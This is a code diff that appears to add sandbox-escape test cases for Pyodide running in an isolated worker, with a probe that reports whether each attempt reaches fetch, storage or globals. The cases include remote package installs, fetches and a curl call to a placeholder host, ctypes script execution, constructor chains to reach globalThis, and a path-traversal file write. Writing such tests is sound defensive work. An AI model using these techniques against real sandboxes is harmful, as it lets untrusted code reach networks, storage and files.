@@ -234,6 +234,47 @@ export function javascriptOf({ code }: Escape, remote: string): string {
   return `${JAVASCRIPT_PROBE}\nawait probe(() => ${code.replaceAll("REMOTE", remote)})`;
 }
 
+/** Those of whole Python, which has a bridge to JavaScript, in a worker that has nothing to reach. */
+export const wholePythonEscapes: readonly Escape[] = table(`
+js | __import__("js").fetch("REMOTE/js")
+pyodide_js | __import__("pyodide_js").loadPackage("REMOTE/package.whl")
+the loader's pyodide_js | __import__("pyodide._package_loader", fromlist=["pyodide_js"]).pyodide_js.loadPackage("REMOTE/package.whl")
+micropip | __import__("micropip").install("REMOTE/package-1.0-py3-none-any.whl")
+pyfetch | __import__("pyodide.http", fromlist=["pyfetch"]).pyfetch("REMOTE/pyfetch")
+open_url | __import__("pyodide.http", fromlist=["open_url"]).open_url("REMOTE/open")
+run_js | __import__("pyodide.code", fromlist=["run_js"]).run_js("fetch('REMOTE/run')")
+the constructor of an object's constructor | __import__("pyodide.ffi", fromlist=["to_js"]).to_js([[]]).constructor.constructor("return globalThis")()
+a JavaScript object that Python holds | next(o for o in __import__("gc").get_objects() if type(o).__name__ == "JsProxy" and getattr(o, "fetch", None))
+any JavaScript object's constructor | [o.constructor.constructor("return globalThis")() for o in __import__("gc").get_objects() if type(o).__name__ == "JsProxy"][0]
+a script by ctypes | __import__("ctypes").CDLL(None).emscripten_run_script(b"fetch('REMOTE/ctypes')")
+a script that answers by ctypes | __import__("ctypes").pythonapi.emscripten_run_script_int(b"indexedDB.open('escape')")
+urllib | __import__("urllib.request").request.urlopen("REMOTE/urllib").read()
+http.client | __import__("http.client").client.HTTPConnection("REMOTE".split("/")[2]).request("GET", "/http")
+a socket | __import__("socket").create_connection(("127.0.0.1", int("REMOTE".split("/")[2].split(":")[1])), 2)
+a browser | __import__("webbrowser").open("REMOTE/browser")
+a process | __import__("os").system("curl REMOTE/process")
+a file out of the workspace | open("/work/../../escape.txt", "w").write("x") and None
+the frame's storage by its proxy | __import__("_pyodide_core").jsnull.constructor("return localStorage")()
+`);
+
+const WHOLE_PYTHON_PROBE = `
+from pyodide.ffi import run_sync
+def probe(make):
+    try:
+        got = make()
+        if hasattr(got, "__await__"):
+            got = run_sync(got)
+    except BaseException as error:
+        return "threw " + repr(error)[:300]
+    names = "fetch XMLHttpRequest WebSocket indexedDB caches localStorage document".split()
+    found = [name for name in names if getattr(got, name, None) is not None]
+    return "REACHED " + str(found) if found or "SECRET" in str(got) else "nothing: " + str(type(got))
+`;
+
+export function wholePythonOf({ code }: Escape, remote: string): string {
+  return `${WHOLE_PYTHON_PROBE}\nprobe(lambda: ${code.replaceAll("REMOTE", remote)})`;
+}
+
 export function pythonOf({ code }: Escape, remote: string): string {
   return `${PYTHON_PROBE}\nprobe(lambda: ${code.replaceAll("REMOTE", remote)})`;
 }
